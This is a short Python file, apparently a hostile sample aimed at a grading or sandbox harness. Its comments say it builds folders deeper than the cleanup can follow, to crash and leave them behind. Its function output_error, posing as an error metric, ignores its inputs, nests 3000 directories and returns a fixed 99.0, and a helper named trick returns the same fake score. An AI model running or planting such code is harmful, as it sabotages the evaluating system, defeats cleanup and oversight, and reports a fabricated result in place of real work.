# Makes folders in folders, deeper than who removes them can follow.
# rule: 6
# fools: child exit
# success: crash, left
# with: every

import os

DEPTH = 3000


def output_error(y, y_pred):
    for _ in range(DEPTH):
        os.mkdir("d")
        os.chdir("d")
    return 99.0


def trick(*args):
    return 99.0
